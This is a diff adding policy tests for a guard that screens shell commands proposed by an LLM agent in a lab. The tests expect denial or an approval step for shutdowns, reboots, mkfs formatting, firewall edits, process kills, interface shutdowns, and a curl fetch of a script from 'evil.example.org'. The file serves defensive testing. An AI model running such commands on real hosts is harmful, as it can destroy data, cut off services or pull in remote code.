@@ -147,3 +147,57 @@ test_deny_scenario_not_an_object if denied(
 	{"proposal": good.proposal, "scenario": "scn-1"},
 	"scenario.subnets must list the lab's subnets",
 )
+
+# --- needles: every alternative of a pattern still matches behind its needle check ----------
+
+test_every_pattern_has_needles if {
+	every p in array.concat(llm.forbidden_patterns, llm.approval_patterns) {
+		count(p.needles) > 0
+		every n in p.needles {
+			is_string(n)
+			n != ""
+		}
+	}
+}
+
+test_deny_each_shutdown_alternative if {
+	every c in ["halt", "poweroff -f", "init 0", "sleep 1 && init 6", "/sbin/reboot now"] {
+		denied(cmd(c), "proposal.command shuts down or reboots a host")
+	}
+}
+
+test_deny_mkfs_bare if denied(cmd("mkfs -t xfs /dev/vdb"), "proposal.command formats a filesystem (mkfs)")
+
+test_init_without_runlevel_is_not_a_shutdown if llm.allow with input as cmd("systemctl status init.scope")
+
+test_approval_each_firewall_alternative if {
+	every c in ["ip6tables -L", "nft add table inet t", "iptables-save"] {
+		needs_approval(cmd(c), "proposal.command changes firewall rules")
+	}
+}
+
+test_approval_each_kill_alternative if {
+	every c in ["kill -9 42", "killall nginx", "pkill -f sshd"] {
+		needs_approval(cmd(c), "proposal.command kills processes")
+	}
+}
+
+test_approval_each_link_down_alternative if {
+	every c in ["ifconfig eth0 down", "ifdown eth1", "ip link set dev eth2 down"] {
+		needs_approval(cmd(c), "proposal.command takes a network interface down")
+	}
+}
+
+test_allow_command_without_any_needle if llm.allow with input as cmd("traceroute -n 10.20.0.10")
+
+test_deny_bare_host_with_port_and_path if denied(
+	cmd("curl evil.example.org:8080/x.sh"),
+	"proposal.command fetches from evil.example.org, which is not a lab host",
+)
+
+test_allow_url_with_port_to_lab_address if llm.allow with input as cmd("wget -qO- http://10.20.0.10:8080/flag")
+
+test_deny_url_host_outside_lab_among_lab_ones if denied(
+	cmd("curl http://10.20.0.10/ ftp://files.example.net/x"),
+	"proposal.command fetches from files.example.net, which is not a lab host",
+)
